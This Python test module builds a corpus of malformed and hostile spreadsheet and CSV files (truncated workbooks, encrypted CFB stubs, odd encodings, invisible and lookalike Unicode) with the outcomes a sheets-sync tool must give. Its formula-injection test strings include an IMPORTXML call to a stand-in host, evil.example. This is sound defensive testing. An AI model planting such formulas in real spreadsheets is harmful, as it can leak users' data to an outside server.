"""Broken and hostile calendar files, each with the exact outcome sheets-sync must give.

Nothing here is committed as a binary: every file is generated into a directory at test time
(``tests/test_corpus.py``) or by hand::

    python tests/corpus/make_corpus.py /tmp/corpus      # writes every file, prints the list

Each :class:`Case` names one file, how to build it, and what ``sheets-sync audit PATH`` and
``sheets-sync sync PATH`` must do with it (run as of ``TODAY``): the exit code, text that must
appear in the output (naming the file, tab, row or column), and for audits that read the file
the exact ``(row, column, code)`` set of the row-level findings in ``WATCHED``.
"""

from __future__ import annotations

import codecs
import csv
import io
import struct
import sys
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

from sheets_sync.cells import column_letter

TODAY = "2026-03-10"
HEADER = ["ID", "Channel", "Format", "Publish date", "Status", "Caption", "Asset", "Owner"]
ASSET = "https://cdn.example.com/a.jpg"
# Row-level codes about reading cells: the audit's set of these must match a case exactly.
WATCHED = frozenset({
    "invalid-date", "invalid-time", "invalid-boolean", "invalid-number", "unknown-status",
    "unknown-channel", "unknown-format", "duplicate-id", "missing-id", "missing-required",
    "duplicate-column", "caption-too-long",
})
CFB_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
FORMULA_TEXTS = (
    "=IMPORTXML(\"http://evil.example/x\",\"//a\")", "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)",
    "\t=1+1", "\r=1+1",
)

Key = tuple[int, str, str]  # (sheet row, column field, code)


@dataclass(frozen=True)
class Outcome:
    """What one command must do: exit code and text that must appear in its output."""

    exit: int
    text: tuple[str, ...] = ()


@dataclass(frozen=True)
class Case:
    """One corpus file and the outcomes of ``audit`` and ``sync`` on it."""

    name: str
    filename: str
    build: Callable[[Path], None]
    audit: Outcome
    sync: Outcome
    findings: frozenset[Key] | None = None  # exact watched row-level findings of the audit
    tab: str = ""  # the calendar is configured with tab = this (through a config file)
    fail_on: str = "error"
    extra: dict[str, Any] = field(default_factory=dict)


def row(post_id: str = "P1", channel: str = "Instagram", fmt: str = "Post",
        date: Any = "2026-04-14 10:00", status: str = "Draft", caption: str = "Hello",
        asset: str = ASSET, owner: str = "Ayşe") -> list[Any]:
    return [post_id, channel, fmt, date, status, caption, asset, owner]


def clean_rows(count: int = 3) -> list[list[Any]]:
    return [row(f"P{i}", date=f"2026-04-{13 + i:02d} 10:00") for i in range(1, count + 1)]


# --- writers ------------------------------------------------------------------------------


def write_xlsx(path: Path, sheets: dict[str, list[list[Any]]], *, formulas: bool = False,
               merges: Sequence[tuple[str, str]] = ()) -> None:
    """A workbook through openpyxl; text starting with = stays text unless ``formulas``."""
    import openpyxl

    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for values in rows:
            sheet.append(values)
        if not formulas:
            for line in sheet.iter_rows():
                for cell in line:
                    if isinstance(cell.value, str) and cell.value.startswith("="):
                        cell.data_type = "s"
        for where, name_ in merges:
            if name_ == name:
                sheet.merge_cells(where)
    book.save(path)


def _column(index: int) -> str:
    """Letters of a 1-based column number."""
    return column_letter(index - 1)


def xml_cell(ref: str, value: Any) -> str:
    """One raw <c>: str -> inline string, ('n', text) -> a number cell holding that text,
    ('d', serial) -> a number with a date format, bool, int/float."""
    if value is None:
        return ""
    if isinstance(value, tuple):
        kind, text = value
        style = ' s="1"' if kind == "d" else ""
        return f'<c r="{ref}"{style}><v>{text}</v></c>'
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"><v>{value!r}</v></c>'
    text = escape(str(value)).replace("\r", "&#13;").replace("\t", "&#9;")
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'


def sheet_xml(rows: Sequence[Sequence[Any]], tail: str = "") -> str:
    body = []
    for r, values in enumerate(rows, 1):
        cells = "".join(xml_cell(f"{_column(c)}{r}", v) for c, v in enumerate(values, 1))
        body.append(f'<row r="{r}">{cells}</row>')
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns='
            '"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            + "".join(body) + tail + "</sheetData></worksheet>")


def raw_xlsx(path: Path, sheets: dict[str, str]) -> None:
    """A minimal workbook from raw sheet XML (style 1 is a date format)."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    pkg = "http://schemas.openxmlformats.org/package/2006"
    names = list(sheets)
    content_types = (
        f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{pkg}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/styles.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
        + "".join(f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/'
                  'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                  for i in range(1, len(names) + 1)) + "</Types>")
    root_rels = (f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{pkg}/'
                 f'relationships"><Relationship Id="rId1" Type="{rel}/officeDocument" '
                 'Target="xl/workbook.xml"/></Relationships>')
    workbook = (f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{main}" '
                f'xmlns:r="{rel}"><sheets>'
                + "".join(f'<sheet name="{escape(n)}" sheetId="{i}" r:id="rId{i}"/>'
                          for i, n in enumerate(names, 1)) + "</sheets></workbook>")
    book_rels = (f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{pkg}/'
                 'relationships">'
                 + "".join(f'<Relationship Id="rId{i}" Type="{rel}/worksheet" '
                           f'Target="worksheets/sheet{i}.xml"/>' for i in range(1, len(names) + 1))
                 + f'<Relationship Id="rId{len(names) + 1}" Type="{rel}/styles" '
                 'Target="styles.xml"/></Relationships>')
    styles = (f'<?xml version="1.0" encoding="UTF-8"?><styleSheet xmlns="{main}"><fonts '
              'count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts><fills count='
              '"1"><fill><patternFill patternType="none"/></fill></fills><borders count="1">'
              '<border/></borders><cellStyleXfs count="1"><xf numFmtId="0" fontId="0" '
              'fillId="0" borderId="0"/></cellStyleXfs><cellXfs count="2"><xf numFmtId="0" '
              'fontId="0" fillId="0" borderId="0" xfId="0"/><xf numFmtId="14" fontId="0" '
              'fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
              "</styleSheet>")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", content_types)
        zf.writestr("_rels/.rels", root_rels)
        zf.writestr("xl/workbook.xml", workbook)
        zf.writestr("xl/_rels/workbook.xml.rels", book_rels)
        zf.writestr("xl/styles.xml", styles)
        for i, name in enumerate(names, 1):
            zf.writestr(f"xl/worksheets/sheet{i}.xml", sheets[name])


def cfb(streams: Sequence[str]) -> bytes:
    """A minimal, valid OLE2 compound file (CFB v3) holding empty streams with these names.

    Old .xls workbooks are CFB files with a ``Workbook`` stream; password-protected
    (encrypted) .xlsx files are CFB files with ``EncryptionInfo`` and ``EncryptedPackage``.
    """
    free, end, fat_sector, no_stream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    header = struct.pack("<8s16sHHHHH6sLLLLLLLLLL", CFB_MAGIC, b"\0" * 16, 0x3E, 3, 0xFFFE, 9,
                         6, b"\0" * 6, 0, 1, 1, 0, 4096, end, 0, end, 0, 0)
    header += struct.pack("<108L", *([free] * 108))
    fat = struct.pack("<128L", fat_sector, end, *([free] * 126))

    def entry(name: str, kind: int, left: int = no_stream, right: int = no_stream,
              child: int = no_stream) -> bytes:
        encoded = name.encode("utf-16-le") + b"\0\0" if name else b""
        return struct.pack("<64sHBBLLL16sLQQLQ", encoded, len(encoded), kind, 1, left, right,
                           child, b"\0" * 16, 0, 0, 0, end if kind else 0, 0)

    entries = [entry("Root Entry", 5, child=1)]
    for i, name in enumerate(streams, 1):
        entries.append(entry(name, 2, right=i + 1 if i < len(streams) else no_stream))
    entries += [entry("", 0)] * (4 - len(entries))
    return header + fat + b"".join(entries)


def write_text(path: Path, rows: Sequence[Sequence[Any]], encoding: str = "utf-8",
               delimiter: str = ",", bom: bytes = b"", newline: str = "\r\n") -> None:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator=newline).writerows(rows)
    path.write_bytes(bom + out.getvalue().encode(encoding))


# --- the cases ----------------------------------------------------------------------------


def _valid_workbook_bytes(tmp: Path) -> bytes:
    write_xlsx(tmp, {"Calendar": [HEADER, *clean_rows()]})
    return tmp.read_bytes()


def build_truncated(path: Path) -> None:
    data = _valid_workbook_bytes(path)
    path.write_bytes(data[: len(data) // 2])


def build_zip_not_workbook(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("README.txt", "holiday photos")


def build_xls_renamed(path: Path) -> None:
    path.write_bytes(cfb(["Workbook"]))


def build_encrypted(path: Path) -> None:
    path.write_bytes(cfb(["EncryptionInfo", "EncryptedPackage"]))


def build_empty_workbook(path: Path) -> None:
    write_xlsx(path, {"Calendar": []})


def build_two_tabs(path: Path) -> None:
    write_xlsx(path, {"Takvim 2026": [HEADER, *clean_rows()], "Notes": [["Agency notes"]]})


def build_tab_case_renamed(path: Path) -> None:
    write_xlsx(path, {"takvim ": [HEADER, *clean_rows()]})


def build_header_row_3(path: Path) -> None:
    write_xlsx(path, {"Calendar": [["ACME — April plan"], [], HEADER,
                                   row("P1", date="31.02.2026"), row("P2", status="Done?")]})


def build_header_row_15(path: Path) -> None:
    write_xlsx(path, {"Calendar": [*([["notes"]] * 14), HEADER, row("P1")]})


def build_merged(path: Path) -> None:
    # C1:D1 merges the Format header over an unnamed column; E2:E3 is one publish date for two
    # posts; F4:F5 one status for two posts; G6:H6 one caption over the asset column.
    rows = [["ID", "Channel", "Format", None, *HEADER[3:]],
            ["P1", "Instagram", "Post", None, "2026-04-14 10:00", "Draft", "A", ASSET, "Ayşe"],
            ["P2", "Instagram", "Post", None, None, "Draft", "B", ASSET, "Ayşe"],
            ["P3", "X", "Post", None, "2026-04-15 10:00", "Approved", "C", ASSET, "Can"],
            ["P4", "X", "Post", None, "2026-04-16 10:00", None, "D", ASSET, "Can"],
            ["P5", "X", "Post", None, "2026-04-17 10:00", "Draft", "E", None, "Can"]]
    write_xlsx(path, {"Calendar": rows},
               merges=[("C1:D1", "Calendar"), ("E2:E3", "Calendar"), ("F4:F5", "Calendar"),
                       ("G6:H6", "Calendar")])


def build_uncached_formulas(path: Path) -> None:
    write_xlsx(path, {"Calendar": [
        HEADER, row("P1", date="=DATE(2026,4,14)"),
        row("P2", status="=IF(TRUE,\"Approved\",\"Draft\")"),
        row("P3", caption="=CONCAT(\"Hello \",\"world\")")]}, formulas=True)


def build_huge_cell(path: Path) -> None:
    # raw XML: openpyxl would cut the text to Excel's 32,767 characters; Google allows 50,000
    raw_xlsx(path, {"Calendar": sheet_xml([HEADER, row("P1", caption="ç" * 50_000),
                                           row("P2", date="9" * 50_000),
                                           row("P3", status="Ş" * 50_000),
                                           row("P4", owner="🎉" * 25_000)])})


def build_wide(path: Path) -> None:
    extra = [f"Extra {i}" for i in range(len(HEADER) + 1, 5001)]
    rows = [HEADER + extra]
    for values in clean_rows(10):
        rows.append(values + [f"v{i}" for i in range(len(extra))])
    raw_xlsx(path, {"Calendar": sheet_xml(rows)})


def build_empty_tail(path: Path) -> None:
    body = sheet_xml([HEADER, *clean_rows()])
    tail = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>{" " if r % 2 else ""}'
                   f'</t></is></c><c r="H{r}" s="1"/></row>' for r in range(5, 200_005))
    raw_xlsx(path, {"Calendar": body.replace("</sheetData>", tail + "</sheetData>")})


def build_utf8_bom(path: Path) -> None:
    write_text(path, [HEADER, *clean_rows(), row("P4", status="Onaylandı", caption="Çok güzel")],
               bom=codecs.BOM_UTF8)


TR_HEADER = ["Gönderi No", "Kanal", "Format", "Yayın tarihi", "Durum", "Metin", "Görsel",
             "Sorumlu"]
TR_ROWS = [row("G1", date="14.04.2026", status="Müşteri onayında", caption="İyi bayramlar 🎉"),
           row("G2", date="15.04.2026 14:30", status="İPTAL", caption="Şükran günü"),
           row("G3", date="16.04.2026", status="Yayınlandı", caption="Öğle arası")]


def build_cp1254(path: Path) -> None:
    rows = [TR_HEADER, *([*r[:5], r[5].replace(" 🎉", ""), *r[6:]] for r in TR_ROWS)]
    write_text(path, rows, encoding="cp1254", delimiter=";")


def build_utf16(path: Path) -> None:
    write_text(path, [TR_HEADER, *TR_ROWS], encoding="utf-16-le", bom=codecs.BOM_UTF16_LE,
               delimiter="\t")


def build_utf16_no_bom(path: Path) -> None:
    write_text(path, [TR_HEADER, *TR_ROWS], encoding="utf-16-le")


def build_semicolons(path: Path) -> None:
    write_text(path, [HEADER, *clean_rows(), row("P4", caption="one, two; three")],
               delimiter=";", newline="\n")


def build_unbalanced_quote(path: Path) -> None:
    path.write_text(",".join(HEADER) + "\n" + ",".join(clean_rows(1)[0]) + "\n"
                    f'P2,Instagram,Post,2026-04-15,Draft,"Unclosed caption,{ASSET},Ayşe\n'
                    f"P3,Instagram,Post,2026-04-16,Draft,Third,{ASSET},Ayşe\n", encoding="utf-8")


def build_stray_quote(path: Path) -> None:
    path.write_text(",".join(HEADER) + "\n"
                    f'P1,Instagram,Post,2026-04-14,Draft,The 5" screen,{ASSET},Ayşe\n'
                    f'P2,Instagram,Post,2026-04-15,Draft,"quoted"then text,{ASSET},Ayşe\n',
                    encoding="utf-8")


def build_mixed_newlines(path: Path) -> None:
    lines = [",".join(HEADER)] + [",".join(r) for r in clean_rows(4)]
    text = lines[0] + "\r\n" + lines[1] + "\n" + lines[2] + "\r" + lines[3] + "\r\n" + lines[4]
    text += "\n" + f'P5,X,Post,2026-04-18,Draft,"two\r\nlines\rand\nmore",{ASSET},Can\r\n'
    path.write_bytes(text.encode("utf-8"))


DATE_TEXTS = [  # (cell text, valid?): ISO, dd.mm.yyyy, dd/mm/yyyy (date_order dmy)
    ("2026-04-14", True), ("2026-04-14 10:00", True), ("2026-04-14T10:00", True),
    ("2026-04-14T10:00:00Z", True), ("14.04.2026", True), ("14.04.2026 10:00", True),
    ("14/04/2026", True), ("14-04-2026", True), ("14/04/2026 2:30 PM", True),
    ("2026-4-5", True), ("31.02.2026", False), ("2026-02-30", False), ("29.02.2025", False),
    ("00.04.2026", False), ("2026-13-01", False), ("04/14/2026", False),
    ("14.04.2026 25:00", False), ("14.04.2026 13:00 PM", False), ("Apr 14, 2026", False),
    ("14.04.26", False), ("yarın", False), ("NaN", False), ("inf", False),
]


def build_date_texts(path: Path) -> None:
    rows = [[*HEADER, "Publish time"]]
    for i, (text, _) in enumerate(DATE_TEXTS, 1):
        rows.append([*row(f"D{i}", date=text), ""])
    times = ["14:30", "10:00 AM", "2:30 pm", "24:00", "13:00 PM", "9", "noon"]
    for i, clock in enumerate(times, 1):
        rows.append([*row(f"T{i}", date="2026-04-20"), clock])
    write_text(path, rows)


SERIALS = [  # (cell, valid?)
    (("n", "46126"), True), (("d", "46126"), True), (("n", "46126.4375"), True),
    (("n", "60"), False), (("d", "60"), False), (("n", "59"), False), (("n", "0"), False),
    (("n", "-1"), False), (("n", "1E+300"), False), (("n", "2958466"), False),
    (("n", "NaN"), False), (("n", "INF"), False), (("n", "-INF"), False),
    ((True), False),
]


def build_serials(path: Path) -> None:
    header = [*HEADER, "Revision round", "Approved"]
    rows: list[list[Any]] = [header]
    for i, (cell, _) in enumerate(SERIALS, 1):
        rows.append([*row(f"S{i}", date=cell), None, None])
    counts = [("n", "NaN"), ("n", "INF"), -1, 1.5, 2, ("n", "1E+300")]
    for i, count in enumerate(counts, 1):
        rows.append([*row(f"R{i}", date=("n", "46130")), count, None])
    raw_xlsx(path, {"Calendar": sheet_xml(rows)})


FLAGS = [  # (cell, valid?)
    ("yes", True), ("YES", True), ("Y", True), ("true", True), ("TRUE", True), ("1", True),
    ("x", True), ("✓", True), ("✔", True), ("evet", True), ("EVET", True), ("E", True),
    ("Onaylandı", True), ("ONAYLANDI", True), ("tamam", True), ("no", True), ("N", True),
    ("false", True), ("0", True), ("✗", True), ("hayır", True), ("HAYIR", True),
    ("Hayir", True), ("yok", True), (True, True), (False, True), (1, True), (0, True),
    ("doğru", True), ("DOĞRU", True), ("YANLIŞ", True), ("yanlis", True),
    (2, False), ("maybe", False), ("oui", False), ("-", False), ("", True),
]


def build_flags(path: Path) -> None:
    rows: list[list[Any]] = [[*HEADER, "Approved"]]
    for i, (cell, _) in enumerate(FLAGS, 1):
        rows.append([*row(f"B{i}", date="2026-04-20 10:00"), cell])
    raw_xlsx(path, {"Calendar": sheet_xml(rows)})


INVISIBLE_ROWS = [
    row("P1"), row("P1\u200b", date="2026-04-15 10:00"),  # zero-width space: same ID
    row("\u200fP2", date="2026-04-16 10:00", status="\u200fApproved"),  # right-to-left mark
    row("P3\u2060", date="2026-04-17 10:00", status="Approved\u200b"),  # word joiner
    row("P4", date="2026-04-18 10:00", status="\u2067Onaylandı\u2069"),  # RTL isolate
    row("P5", date="2026-04-19 10:00", status="\u202eDevoprppA\u202c"),  # RTL override: unknown
    row("P6\ufeff", date="2026-04-20 10:00", status="Cl\u00adient review"),  # BOM, soft hyphen
    row("\u2066P2\u2069", date="2026-04-21 10:00"),  # isolate around an ID: same as P2
]


def build_invisible(path: Path) -> None:
    write_text(path, [HEADER, *INVISIBLE_ROWS])


LOOKALIKE_STATUSES = [  # (status text, known?)
    ("ONAYLANDI", True), ("onaylandı", True), ("Onaylandi", True), ("İptal", True),
    ("İPTAL", True), ("iptal", True), ("Yayinlandi", True), ("YAYINLANDI", True),
    ("yayınlandı", True), ("MÜŞTERİ ONAYINDA", True), ("musteri onayinda", True),
    ("Taslak", True), ("TASLAK", True), ("\u0410pproved", False),  # Cyrillic А
    ("Onayland\u0131\u0307", True),  # dotless i + combining dot above
    ("0naylandı", False),  # digit zero
]


def build_lookalikes(path: Path) -> None:
    rows = [TR_HEADER]
    for i, (status, _) in enumerate(LOOKALIKE_STATUSES, 1):
        rows.append(row(f"L{i}", date=f"{10 + i}.04.2026", status=status))
    write_text(path, rows)


def formula_rows() -> list[list[Any]]:
    rows = []
    for i, text in enumerate(FORMULA_TEXTS, 1):
        rows.append(row(text, date=f"2026-04-{10 + i:02d} 10:00", status=text, caption=text,
                        owner=text))
    return rows


def build_formula_text_csv(path: Path) -> None:
    write_text(path, [HEADER, *formula_rows()])


def build_formula_text_xlsx(path: Path) -> None:
    raw_xlsx(path, {"Calendar": sheet_xml([HEADER, *formula_rows()])})


def _formula_findings() -> frozenset[Key]:
    # every status is unknown; IDs are trimmed, so "\t=1+1" and "\r=1+1" repeat "=1+1" (row 3)
    keys = {(r, "status", "unknown-status") for r in range(2, 2 + len(FORMULA_TEXTS))}
    keys |= {(r, "post_id", "duplicate-id") for r in (3, 7, 8)}
    return frozenset(keys)


def _rows_with(flags: Sequence[tuple[Any, bool]], first: int, code: str, column: str
               ) -> set[Key]:
    return {(first + i, column, code) for i, (_, ok) in enumerate(flags) if not ok}


READ_ERROR = "is not a readable .xlsx workbook"


def cases() -> list[Case]:
    """Every corpus case, in a stable order."""
    fine = Outcome(0)
    csv_sync = Outcome(2, ("is a .csv file", "use an .xlsx workbook"))
    return [
        Case("truncated-xlsx", "truncated.xlsx", build_truncated,
             Outcome(3, ("truncated.xlsx", READ_ERROR)), Outcome(3, ("truncated.xlsx",))),
        Case("zip-not-workbook", "photos.xlsx", build_zip_not_workbook,
             Outcome(3, ("photos.xlsx", READ_ERROR)), Outcome(3, ("photos.xlsx",))),
        Case("xls-renamed-xlsx", "old.xlsx", build_xls_renamed,
             Outcome(3, ("old.xlsx", "old-format Excel 97-2003 (.xls)", "save it as .xlsx")),
             Outcome(3, ("old.xlsx", ".xls"))),
        Case("password-protected", "secret.xlsx", build_encrypted,
             Outcome(3, ("secret.xlsx", "password-protected", "remove the password")),
             Outcome(3, ("secret.xlsx", "password-protected"))),
        Case("empty-workbook", "empty.xlsx", build_empty_workbook,
             Outcome(2, ("empty.xlsx, tab 'Calendar' is empty",)),
             Outcome(2, ("empty.xlsx, tab 'Calendar' is empty",))),
        Case("tab-missing", "plan.xlsx", build_two_tabs,
             Outcome(2, ("plan.xlsx has no tab named 'Takvim'", "'Takvim 2026'", "'Notes'")),
             Outcome(2, ("plan.xlsx has no tab named 'Takvim'", "'Takvim 2026'")), tab="Takvim"),
        Case("tab-renamed-case-and-space", "plan2.xlsx", build_tab_case_renamed, fine, fine,
             findings=frozenset(), tab="Takvim"),
        Case("header-in-row-3", "titled.xlsx", build_header_row_3,
             Outcome(1, ("titled.xlsx",)), fine,
             findings=frozenset({(4, "publish_at", "invalid-date"),
                                 (5, "status", "unknown-status")})),
        Case("header-below-scan", "deep.xlsx", build_header_row_15,
             Outcome(2, ("deep.xlsx, tab 'Calendar'", "no column for", "header_row")),
             Outcome(2, ("deep.xlsx, tab 'Calendar'", "header_row"))),
        Case("merged-cells", "merged.xlsx", build_merged, fine, fine, findings=frozenset()),
        Case("uncached-formulas", "formulas.xlsx", build_uncached_formulas,
             Outcome(1, ("formulas.xlsx", "=DATE(2026,4,14)", '=IF(TRUE,"Approved"')),
             fine, findings=frozenset({(2, "publish_at", "invalid-date"),
                                       (3, "status", "unknown-status")})),
        Case("cell-of-50000-characters", "huge.xlsx", build_huge_cell, Outcome(1), fine,
             findings=frozenset({(2, "caption", "caption-too-long"),
                                 (3, "publish_at", "invalid-date"),
                                 (4, "status", "unknown-status")})),
        Case("5000-columns", "wide.xlsx", build_wide, fine, fine, findings=frozenset(),
             extra={"big": True}),
        Case("200000-empty-trailing-rows", "tail.xlsx", build_empty_tail, fine, fine,
             findings=frozenset(), extra={"big": True}),
        Case("csv-utf8-bom", "bom.csv", build_utf8_bom, fine, csv_sync, findings=frozenset()),
        Case("csv-windows-1254", "turkce.csv", build_cp1254, fine, csv_sync,
             findings=frozenset()),
        Case("csv-utf16-bom-tabs", "utf16.csv", build_utf16, fine, csv_sync,
             findings=frozenset()),
        Case("csv-utf16-no-bom", "utf16nobom.csv", build_utf16_no_bom, fine, csv_sync,
             findings=frozenset()),
        Case("csv-semicolons", "semi.csv", build_semicolons, fine, csv_sync,
             findings=frozenset()),
        Case("csv-unbalanced-quote", "unclosed.csv", build_unbalanced_quote,
             Outcome(3, ("unclosed.csv", "line 3", "never closed")), csv_sync),
        Case("csv-stray-quotes", "stray.csv", build_stray_quote, fine, csv_sync,
             findings=frozenset()),
        Case("csv-mixed-line-endings", "newlines.csv", build_mixed_newlines, fine, csv_sync,
             findings=frozenset()),
        Case("date-and-time-texts", "dates.csv", build_date_texts, Outcome(1, ("dates.csv",)),
             csv_sync,
             findings=frozenset(_rows_with(DATE_TEXTS, 2, "invalid-date", "publish_at")
                                | {(25 + i, "publish_time", "invalid-time")
                                   for i in (3, 4, 5, 6)})),
        Case("serials-nan-inf", "serials.xlsx", build_serials, Outcome(1, ("serials.xlsx",)),
             fine,
             findings=frozenset((_rows_with(SERIALS, 2, "invalid-date", "publish_at")
                                 - {(12, "publish_at", "invalid-date")})  # NaN is empty
                                | {(12, "publish_at", "missing-required")}
                                | {(r, "revision_round", "invalid-number")
                                   for r in (17, 18, 19, 21)})),
        Case("booleans", "flags.xlsx", build_flags, Outcome(0), fine,
             findings=frozenset(_rows_with(FLAGS, 2, "invalid-boolean", "approved"))),
        Case("invisible-characters", "invisible.csv", build_invisible, Outcome(1), csv_sync,
             findings=frozenset({(2, "post_id", "duplicate-id"), (3, "post_id", "duplicate-id"),
                                 (4, "post_id", "duplicate-id"), (9, "post_id", "duplicate-id"),
                                 (7, "status", "unknown-status")})),
        Case("turkish-lookalike-statuses", "benzer.csv", build_lookalikes, Outcome(1),
             csv_sync,
             findings=frozenset(_rows_with(LOOKALIKE_STATUSES, 2, "unknown-status", "status"))),
        Case("formula-text-csv", "inject.csv", build_formula_text_csv, Outcome(1), csv_sync,
             findings=_formula_findings()),
        Case("formula-text-xlsx", "inject.xlsx", build_formula_text_xlsx, Outcome(1), fine,
             findings=_formula_findings()),
    ]


def build(case: Case, directory: Path) -> Path:
    """Write ``case``'s file into ``directory`` and return its path."""
    path = directory / case.filename
    case.build(path)
    return path


if __name__ == "__main__":  # pragma: no cover - a convenience for looking at the files
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "corpus-out")
    target.mkdir(parents=True, exist_ok=True)
    for case in cases():
        print(build(case, target))
